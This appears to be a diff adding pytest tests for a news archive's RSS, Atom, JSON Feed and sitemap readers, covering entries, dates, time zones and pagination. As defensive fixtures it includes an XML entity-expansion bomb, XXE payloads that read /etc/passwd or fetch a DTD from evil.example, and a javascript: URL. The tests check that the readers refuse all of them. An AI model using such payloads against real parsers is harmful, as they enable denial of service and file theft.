@@ -1,0 +1,93 @@
+"""Feeds of every family are read from bytes; none is opened, and none is trusted."""
+
+import gzip
+import json
+import time
+from collections.abc import Callable
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from newsarchive.discover.feed import read_feed
+from newsarchive.discover.sitemap import read_sitemap
+from newsarchive.sources import Source
+
+URL = "https://lamp.example/feed/"
+RSS = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>The Lamp</title>
+<item><title>Lock &amp; key</title><link>https://lamp.example/lock/</link><pubDate>{date}</pubDate>
+<description>&lt;p&gt;The &lt;b&gt;water&lt;/b&gt; is back.&lt;/p&gt;</description></item></channel></rss>"""
+BOMB = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
+<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><rss><channel>&d;</channel></rss>"""
+
+
+def test_twenty_real_feeds_give_their_entries(shared: Path) -> None:
+    for line in (shared / "corpus" / "feeds.jsonl").read_text(encoding="utf-8").splitlines():
+        row = json.loads(line)
+        read = read_sitemap if row["kind"] == "sitemap" else read_feed
+        reading = read(gzip.decompress((shared / "corpus" / row["file"]).read_bytes()), URL)
+        assert reading.entries == row["n_entries"], row["id"]
+
+
+def test_an_item_is_a_link_with_its_own_date() -> None:
+    reading = read_feed(RSS.format(date="Wed, 28 May 2025 19:35:12 +0200").encode(), URL)
+    (link,) = reading.links
+    assert (link.url, link.anchor, link.teaser) == ("https://lamp.example/lock/", "Lock & key", "The water is back.")
+    assert (link.date_hint, link.date_precision) == (datetime(2025, 5, 28, 17, 35, 12, tzinfo=UTC), "second")
+    assert not link.is_modified_hint
+
+
+@pytest.mark.parametrize(("written", "hour"), [
+    ("Wed, 28 May 2025 12:00:00 EST", 17), ("2025-05-28T12:00:00Z", 12), ("2025-05-28T12:00:00-05:00", 17),
+    ("2025-05-28 12:00:00", 11),  # no offset: the site's own zone, Lisbon in summer
+])  # fmt: skip
+def test_zones_of_feed_dates(make_source: Callable[..., Source], written: str, hour: int) -> None:
+    (link,) = read_feed(RSS.format(date=written).encode(), URL, make_source({"feed": URL})).links
+    assert link.date_hint == datetime(2025, 5, 28, hour, tzinfo=UTC)
+
+
+def test_updated_alone_is_only_an_upper_bound() -> None:
+    atom = """<feed xmlns="http://www.w3.org/2005/Atom"><link rel="next" href="https://lamp.example/feed/2"/><entry>
+    <title>Ferry</title><link href="/ferry/"/><updated>2025-05-28T10:00:00Z</updated></entry></feed>"""
+    reading = read_feed(atom.encode(), URL)
+    assert reading.links[0].url == "https://lamp.example/ferry/"
+    assert reading.links[0].is_modified_hint
+    assert reading.next_url == "https://lamp.example/feed/2"
+
+
+def test_json_feed() -> None:
+    feed = {"version": "https://jsonfeed.org/version/1.1", "next_url": URL + "2", "items": [
+        {"id": "1", "url": "/a#top", "title": "A", "date_published": "2025-05-28T10:00:00+01:00"},
+        {"id": "2", "url": "javascript:alert(1)"}, {"id": "3"}, "rubbish"]}  # fmt: skip
+    reading = read_feed(json.dumps(feed).encode(), URL)
+    assert [link.url for link in reading.links] == ["https://lamp.example/a"]
+    assert reading.links[0].date_hint == datetime(2025, 5, 28, 9, tzinfo=UTC)
+    assert (reading.entries, reading.next_url, reading.problem) == (4, URL + "2", None)
+
+
+@pytest.mark.parametrize("body", [
+    b"", b"<html><body>Not found</body></html>", b"/etc/passwd", b"http://127.0.0.1:1/", b"{", b'{"a": 1}', b"[" * 9999,
+    b'{"items":' + b"[" * 50_000,
+])  # fmt: skip
+def test_what_is_no_feed_says_so(body: bytes) -> None:
+    reading = read_feed(body, URL)
+    assert reading.links == []
+    assert reading.problem
+
+
+@pytest.mark.parametrize("body", [
+    BOMB, BOMB.replace(b"<!ENTITY a", b"<!-- x --><!ENTITY a"), BOMB.decode().encode("utf-16"),
+    b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
+    b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss><channel/></rss>',
+])  # fmt: skip
+@pytest.mark.parametrize("read", [read_feed, read_sitemap])
+def test_hostile_xml_is_refused_at_once(body: bytes, read: Callable[..., object]) -> None:
+    began = time.monotonic()
+    reading = read(body, URL)
+    assert time.monotonic() - began < 1
+    assert "refused" in (reading.problem or "")  # type: ignore[attr-defined]
+
+
+def test_harmless_entities_are_not_hostile() -> None:
+    body = b'<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>' + RSS.format(date="").encode().partition(b"?>")[2]
+    assert len(read_feed(body, URL).links) == 1
